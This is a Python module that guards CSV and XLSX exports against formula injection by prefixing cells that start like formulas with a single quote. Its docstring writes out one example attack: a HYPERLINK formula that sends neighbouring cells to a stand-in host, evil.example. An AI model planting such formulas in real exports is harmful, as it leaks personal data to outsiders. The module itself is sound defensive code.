"""Cells for CSV and spreadsheet exports that a spreadsheet program shows as text and never runs.

Excel, LibreOffice and Google Sheets read a cell that begins with `=`, `+`, `-` or `@` (and, after they
strip it, a tab or carriage return) as a formula: a name such as `=HYPERLINK("http://evil.example/?"&A1)`
would send the neighbouring cells away when the data protection officer opens the export. The OWASP rule
is to prefix such a cell with a single quote, which the program takes as "text follows" and does not show.
Every export writes its cells through `spreadsheet_safe` (or `SpreadsheetCsvWriter`, `spreadsheet_xlsx`).
"""

import csv
import io
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: Any) -> Any:
    """The value as a spreadsheet would store it without evaluating it: text that starts like a formula
    gets a leading `'`; numbers and everything else stay as they are (a negative number is no formula)."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SpreadsheetCsvWriter:
    """`csv.writer` whose every cell passes through `spreadsheet_safe`.

    `writerow` returns what the underlying file's `write` returns, so a writer on an echoing file yields
    the lines of a streamed response.
    """

    def __init__(self, file, **fmtparams):
        self._writer = csv.writer(file, **fmtparams)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([spreadsheet_safe(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def spreadsheet_csv_writer(file, **fmtparams) -> SpreadsheetCsvWriter:
    return SpreadsheetCsvWriter(file, **fmtparams)


def spreadsheet_xlsx(rows: Iterable[Iterable[Any]], *, sheet_title: str = "Export") -> bytes:
    """An XLSX workbook of one sheet holding the rows: numbers stay numbers (a Decimal becomes a float, as
    XLSX stores it), every text cell passes `spreadsheet_safe`."""
    # openpyxl takes a tenth of a second to import; only the XLSX downloads pay for it.
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    # Excel refuses sheet names over 31 characters or holding []:*?/\ .
    sheet.title = "".join(c for c in sheet_title if c not in "[]:*?/\\")[:31] or "Export"
    for row in rows:
        sheet.append([float(value) if isinstance(value, Decimal) else spreadsheet_safe(value) for value in row])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()
